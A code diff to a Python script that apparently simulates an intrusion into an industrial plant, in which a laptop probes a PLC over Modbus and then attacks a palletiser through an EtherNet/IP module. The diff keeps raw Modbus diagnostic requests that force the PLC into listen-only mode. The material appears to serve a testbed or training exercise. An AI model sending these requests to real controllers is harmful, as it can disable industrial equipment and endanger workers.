@@ -1,10 +1,12 @@
-"""The incident: a laptop is plugged into cell 1, scans, identifies, probes, writes, disables.
+"""The incident: a laptop is plugged into cell 1, scans, identifies, probes, writes, disables; then
+it turns to the palletiser in cell 3. What it does over OPC UA is in opcua.js.
 
     laptop.py T0
 
 Its interface is down until then. The Modbus requests are bytes of our own on real TCP connections.
 Only addresses of the plant's own namespaces are touched. What was done when goes to the log.
 """
+import asyncio
 import select
 import socket
 import struct
@@ -12,6 +14,7 @@ import subprocess
 import sys
 import time
 
+import enip_cell
 import plant
 
 now, until = plant.clock(float(sys.argv[1]))
@@ -135,7 +138,8 @@ def main():
         c.ask(1, bytes.fromhex("080001ff00"), 6)
         note("forces listen-only mode (8/4)", server="plc1")
         c.ask(1, bytes.fromhex("0800040000"), 2, answer=False)
-    note("last connection closed")
+    note("last Modbus connection closed")
+    asyncio.run(enip_cell.attack(ME.ip, note))
 
 
 main()
